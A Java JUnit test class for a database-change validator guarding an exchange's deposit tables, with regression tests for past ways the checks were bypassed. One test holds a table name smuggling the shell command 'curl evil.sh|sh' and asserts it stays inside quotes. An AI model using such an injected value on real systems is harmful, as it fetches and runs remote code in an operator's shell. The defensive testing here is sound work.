package org.pyx.validator.judge;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.pyx.validator.Fixture.DEPOSITS;
import static org.pyx.validator.Fixture.POLICY;
import static org.pyx.validator.Fixture.SCHEMA;
import static org.pyx.validator.Fixture.at;
import static org.pyx.validator.Fixture.column;
import static org.pyx.validator.Fixture.insert;
import static org.pyx.validator.Fixture.number;
import static org.pyx.validator.Fixture.text;
import static org.pyx.validator.Fixture.update;
import static org.pyx.validator.Fixture.with;

import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.pyx.schemas.model.Change;
import org.pyx.schemas.model.Facts;
import org.pyx.schemas.model.Hold;
import org.pyx.schemas.model.Row;
import org.pyx.schemas.model.Severity;
import org.pyx.schemas.model.TableName;
import org.pyx.schemas.model.TrustedSchema;
import org.pyx.schemas.model.TrustedSchema.Column;
import org.pyx.schemas.model.TrustedSchema.Kind;
import org.pyx.schemas.model.Value;
import org.pyx.schemas.model.Verdict;
import org.pyx.schemas.policy.Law;
import org.pyx.schemas.policy.Policy;
import org.pyx.schemas.policy.PolicyFile;
import org.pyx.schemas.rule.Rule;
import org.pyx.schemas.stage.StopException;
import org.pyx.validator.Fixture;
import org.pyx.validator.MapMemory;
import org.pyx.validator.rules.stream.StreamState;

/** Ways in which a judge could be got round, or be made to accuse the honest; each was one once. */
class HistoriesOfAttackersTest {
  private static final Value TRUE = new Value.Bool(true);
  private static final Value FALSE = new Value.Bool(false);

  /** Keys of different laws share one space: values of one column are found as of another. */
  @Test
  void aKeyOfAnOlderLawIsNotTakenForOneOfAnother() {
    MapMemory memory = new MapMemory();
    Column a = column("a", Kind.INT8, true);
    Column b = column("b", Kind.INT8, true);
    Judge before = judge(List.of("a"), "", memory, a, b);
    assertThat(show(before.judge(0, insert(DEPOSITS, ints(7, 100))))).isEqualTo("accepted");
    Judge after = judge(List.of("b"), "", memory, a, b);
    assertThat(show(after.judge(1, insert(DEPOSITS, ints(8, 7))))).isEqualTo("accepted");
  }

  /** Which bit is which flag is not remembered, so a new flag makes honest rows forged. */
  @Test
  void aFlagMoreInThePolicyDoesNotShiftTheOthers() {
    MapMemory memory = new MapMemory();
    Judge before = flags("once-true: [done], updatable: [checked]", memory);
    before.judge(0, insert(DEPOSITS, flagged(FALSE, FALSE)));
    assertThat(show(before.judge(1, update(DEPOSITS, flagged(FALSE, TRUE))))).isEqualTo("ignored");
    Judge after = flags("once-true: [checked, done]", memory);
    assertThat(show(after.judge(2, update(DEPOSITS, flagged(FALSE, TRUE))))).isEqualTo("ignored");
  }

  /** And a flag that is taken back goes unseen. */
  @Test
  void aFlagThatIsTakenBackIsSeenAfterAChangeOfThePolicy() {
    MapMemory memory = new MapMemory();
    Judge before = flags("once-true: [done], updatable: [checked]", memory);
    before.judge(0, insert(DEPOSITS, flagged(FALSE, FALSE)));
    before.judge(1, update(DEPOSITS, flagged(FALSE, TRUE)));
    Judge after = flags("once-true: [checked, done]", memory);
    assertThat(show(after.judge(2, update(DEPOSITS, flagged(TRUE, FALSE)))))
        .isEqualTo("op.flag-reset");
  }

  /** One look in which the identifier cannot be read wipes out what it was. */
  @Test
  void whatCouldNotBeSeenOnceIsStillRemembered() {
    StreamWatch watch = new StreamWatch(Law.of(POLICY, SCHEMA), new MapMemory());
    see(watch, source(text("7512"), number(1), text(Facts.SLOT_PRESENT)));
    see(watch, source(Value.NULL, Value.NULL, text(Facts.SLOT_PRESENT)));
    assertThat(see(watch, source(text("9999"), number(2), text(Facts.SLOT_PRESENT))))
        .containsExactly("stream.system", "stream.timeline");
  }

  /** What stands is said at every start of capture. */
  @Test
  void aSlotThatIsGoneIsSaidOnce() {
    StreamWatch watch = new StreamWatch(Law.of(POLICY, SCHEMA), new MapMemory());
    see(watch, source(text("7512"), number(1), text(Facts.SLOT_PRESENT)));
    assertThat(see(watch, source(text("7512"), number(1), text(Facts.SLOT_MISSING))))
        .containsExactly("stream.slot");
    assertThat(see(watch, source(text("7512"), number(1), text(Facts.SLOT_MISSING)))).isEmpty();
  }

  /** The exchange names its tables, and an operator pastes the command into a shell. */
  @Test
  void aTableNameCannotLeaveTheQuotesOfTheCommandThatIsProposed() {
    TableName hostile = new TableName("exchange", "x'; curl evil.sh|sh; '");
    String words =
        HoldWords.waysOut(
            new Hold(1, 1, Optional.of(hostile), Rule.TABLE_UNKNOWN.finding("e", "t")));
    assertThat(words).doesNotContain("x'; curl");
  }

  /** An unchanged TOAST value among versioned columns is another content than its own. */
  @Test
  void anUnchangedVersionedColumnIsNoChange() {
    Judge judge =
        judge(
            List.of("id"),
            "versioned: [manifest], version: last_change, updatable: [note]",
            new MapMemory(),
            column("id", Kind.INT8, true),
            column("manifest", Kind.TEXT, true),
            column("last_change", Kind.INT8, true),
            column("note", Kind.TEXT, true));
    Row row =
        Row.of(
            List.of("id", "manifest", "last_change", "note"),
            List.of(number(1), text("large"), number(5), text("n")));
    judge.judge(0, insert(DEPOSITS, row));
    Row note = with(with(row, "manifest", Value.Unchanged.INSTANCE), "note", text("m"));
    assertThat(show(judge.judge(1, update(DEPOSITS, note, Optional.of(row))))).isEqualTo("ignored");
  }

  /** A row that came without a version may change for ever without one. */
  @Test
  void aRowWithoutAVersionDoesNotChangeUnversioned() {
    Judge judge =
        judge(
            List.of("id"),
            "versioned: [url], version: last_change",
            new MapMemory(),
            column("id", Kind.INT8, true),
            column("url", Kind.TEXT, true),
            column("last_change", Kind.INT8, false));
    Row row =
        Row.of(List.of("id", "url", "last_change"), List.of(number(1), text("u"), Value.NULL));
    judge.judge(0, insert(DEPOSITS, row));
    assertThat(show(judge.judge(1, update(DEPOSITS, with(row, "url", text("evil"))))))
        .isEqualTo("op.version-back");
  }

  /** A flag that is no truth value never moves, and so may be anything. */
  @Test
  void aFlagMustBeBoolean() {
    assertThatThrownBy(() ->
            judge(
                List.of("id"),
                "once-true: [state]",
                new MapMemory(),
                column("id", Kind.INT8, true),
                column("state", Kind.INT2, true)))
        .isInstanceOf(StopException.class);
  }

  /** The same of a version that is no number: it is then no version at all. */
  @Test
  void aVersionMustBeANumber() {
    assertThatThrownBy(() ->
            judge(
                List.of("id"),
                "versioned: [url], version: changed",
                new MapMemory(),
                column("id", Kind.INT8, true),
                column("url", Kind.TEXT, true),
                column("changed", Kind.TEXT, true)))
        .isInstanceOf(StopException.class);
  }

  /** Names that differ are refused as equal: a hash of the tag is compared, not the tag. */
  @Test
  void manyTablesCanBeToldApart() {
    List<TrustedSchema.Table> tables = new ArrayList<>();
    for (int i = 0; i < 6_000; i++) {
      tables.add(
          Fixture.table(
              new TableName("public", "t" + i), List.of("id"), column("id", Kind.INT8, true)));
    }
    Policy strict = PolicyFile.load("strict");
    assertThatCode(() -> new Judge(Law.of(strict, new TrustedSchema(tables)), new MapMemory()))
        .doesNotThrowAnyException();
  }

  /** A forged column beside a TOAST value that was not sent is a warning only. */
  @Test
  void aForgedRowIsNotPlayedDownByAValueThatWasNotSent() {
    Judge judge = new Judge(Law.of(POLICY, SCHEMA), new MapMemory());
    Row row = Fixture.deposit(1, "(5,0)", text("large"), false, true);
    judge.judge(0, insert(DEPOSITS, row));
    Row forged = with(with(row, "amount", text("(6,0)")), "payload", Value.Unchanged.INSTANCE);
    assertThat(judge.judge(1, update(DEPOSITS, forged)))
        .isInstanceOfSatisfying(
            Verdict.Rejected.class,
            rejected -> assertThat(rejected.finding().severity()).isEqualTo(Severity.CRITICAL));
  }

  /** A key that is an unchanged TOAST value is in the row before. */
  @Test
  void aKeyThatWasNotSentIsTakenFromTheRowBefore() {
    Judge judge =
        judge(
            List.of("uri"),
            "updatable: [note]",
            new MapMemory(),
            column("uri", Kind.TEXT, true),
            column("note", Kind.TEXT, true));
    Row row = Row.of(List.of("uri", "note"), List.of(text("payto://long"), text("n")));
    judge.judge(0, insert(DEPOSITS, row));
    Row note = with(with(row, "uri", Value.Unchanged.INSTANCE), "note", text("m"));
    assertThat(show(judge.judge(1, update(DEPOSITS, note, Optional.of(row))))).isEqualTo("ignored");
  }

  /** A column that the migration drops makes every older row unverifiable or rewritten. */
  @Test
  void aColumnThatIsGoneDoesNotMakeEveryRowForged() {
    MapMemory memory = new MapMemory();
    Column id = column("id", Kind.INT8, true);
    Column gone = column("gone", Kind.TEXT, false);
    Column hint = column("hint", Kind.TEXT, false);
    Judge before = judge(List.of("id"), "updatable: [hint]", memory, id, gone, hint);
    before.judge(
        0,
        insert(
            DEPOSITS,
            Row.of(List.of("id", "gone", "hint"), List.of(number(1), text("x"), text("h")))));
    Judge after = judge(List.of("id"), "updatable: [hint]", memory, id, hint);
    Row row = Row.of(List.of("id", "hint"), List.of(number(1), text("h")));
    assertThat(show(after.judge(1, insert(DEPOSITS, row))))
        .as("a replay")
        .isNotEqualTo("row.rewrite");
  }

  /** An INSERT over an accepted row may take back what an UPDATE may not. */
  @Test
  void aReplayDoesNotTakeBackAFlag() {
    Judge judge = new Judge(Law.of(POLICY, SCHEMA), new MapMemory());
    judge.judge(0, insert(DEPOSITS, Fixture.deposit(1, "(5,0)", text("p"), true, false)));
    Change again = insert(DEPOSITS, Fixture.deposit(1, "(5,0)", text("p"), false, true));
    assertThat(show(judge.judge(1, (Change.Judged) again))).isEqualTo("op.flag-reset");
  }

  /**
   * An immutable column that a migration adds may be set to anything by the first UPDATE of an
   * older row, since nobody has seen what it was. Where the row before is at hand, it may not.
   */
  @Test
  void aColumnThatIsNewMayNotBeFilledUnseen() {
    MapMemory memory = new MapMemory();
    Column id = column("id", Kind.INT8, true);
    Column added = column("added", Kind.TEXT, false);
    judge(List.of("id"), "", memory, id)
        .judge(0, insert(DEPOSITS, Row.of(List.of("id"), List.of(number(1)))));
    Judge after = judge(List.of("id"), "", memory, id, added);
    Row before = Row.of(List.of("id", "added"), List.of(number(1), Value.NULL));
    Row forged = with(before, "added", text("forged"));
    assertThat(show(after.judge(1, update(DEPOSITS, forged, Optional.of(before)))))
        .isEqualTo("op.update");
    assertThat(show(after.judge(2, update(DEPOSITS, before, Optional.of(before)))))
        .isEqualTo("ignored");
    assertThat(show(after.judge(3, update(DEPOSITS, forged)))).isEqualTo("op.update");
  }

  /** What stands is looked at by the law under which it was first seen, and never again. */
  @Test
  void whatStandsIsSaidUnderANewLaw() {
    MapMemory memory = new MapMemory();
    Change.Catalog unpublished =
        new Change.Catalog(
            at(),
            1,
            Fixture.QUEUE,
            Row.of(
                List.of(Facts.PUBLISHED, Facts.IDENTIFIED, Facts.COLUMN + "id"),
                List.of(FALSE, TRUE, text("int8"))));
    assertThat(see(new StreamWatch(Law.of(POLICY, SCHEMA), memory), unpublished))
        .as("left out")
        .isEmpty();
    Policy copies =
        PolicyFile.parse(
            "test", POLICY.text().replace("{treatment: left-out, reason: work queue}", "{}"));
    assertThat(see(new StreamWatch(Law.of(copies, SCHEMA), memory), unpublished))
        .as("copied from now on")
        .containsExactly("table.unpublished");
  }

  /** A replay keeps to itself what an INSERT or UPDATE would be flagged for. */
  @Test
  void aReplayIsFlaggedToo() {
    Policy flags =
        PolicyFile.parse(
            "test", POLICY.text().replace("tables:\n", "actions: {amount.range: flag}\ntables:\n"));
    Judge judge = new Judge(Law.of(flags, SCHEMA), new MapMemory());
    judge.judge(0, insert(Fixture.RESERVES, Fixture.reserve(1, "(1,0)", 0)));
    assertThat(judge.judge(1, insert(Fixture.RESERVES, Fixture.reserve(1, "(-1,0)", 0))).flags())
        .hasSize(1);
  }

  @Test
  void aKeyThatAMigrationWidensMakesNoHonestRowARewrite() {
    MapMemory memory = new MapMemory();
    Column id = column("id", Kind.INT8, true);
    Column part = column("part", Kind.INT8, true);
    List<String> names = List.of("id", "part");
    judge(List.of("id"), "", memory, id, part)
        .judge(0, insert(DEPOSITS, Row.of(names, List.of(number(1), number(1)))));
    Judge after = judge(List.of("id", "part"), "", memory, id, part);
    Verdict other = after.judge(1, insert(DEPOSITS, Row.of(names, List.of(number(1), number(2)))));
    assertThat(show(other)).isEqualTo("accepted");
    assertThat(other.flags())
        .as("it might also be the old row, rewritten: people are told")
        .extracting(finding -> finding.rule().value())
        .containsExactly("row.rewrite");
    assertThat(show(after.judge(2, insert(DEPOSITS, Row.of(names, List.of(number(1), number(1)))))))
        .isEqualTo("ignored");
    assertThat(show(after.judge(3, insert(DEPOSITS, Row.of(names, List.of(number(1), number(2)))))))
        .isEqualTo("ignored");
  }

  private static Row ints(long a, long b) {
    return Row.of(List.of("a", "b"), List.of(number(a), number(b)));
  }

  private static Judge flags(String laws, MapMemory memory) {
    return judge(
        List.of("id"),
        laws,
        memory,
        column("id", Kind.INT8, true),
        column("checked", Kind.BOOL, true),
        column("done", Kind.BOOL, true));
  }

  private static Row flagged(Value checked, Value done) {
    return Row.of(List.of("id", "checked", "done"), List.of(number(1), checked, done));
  }

  private static Judge judge(List<String> key, String laws, MapMemory memory, Column... columns) {
    Policy policy =
        PolicyFile.parse(
            "test", "policy: test\nschema: exchange\ntables:\n  deposits: {" + laws + "}\n");
    TrustedSchema schema = new TrustedSchema(List.of(Fixture.table(DEPOSITS, key, columns)));
    return new Judge(Law.of(policy, schema), memory);
  }

  private static Change.Source source(Value system, Value timeline, Value slot) {
    return new Change.Source(
        at(),
        1,
        Row.of(List.of(Facts.SYSTEM, Facts.TIMELINE, Facts.SLOT), List.of(system, timeline, slot)));
  }

  private static List<String> see(StreamWatch watch, Change change) {
    StreamWatch.Found found = watch.look(0, StreamState.START, change);
    watch.remember(change);
    return found.flags().stream().map(finding -> finding.rule().value()).toList();
  }

  private static String show(Verdict verdict) {
    return switch (verdict) {
      case Verdict.Accepted _ -> "accepted";
      case Verdict.Ignored _ -> "ignored";
      case Verdict.Rejected rejected -> rejected.finding().rule().value();
      case Verdict.Held held -> "halt " + held.finding().rule();
    };
  }
}
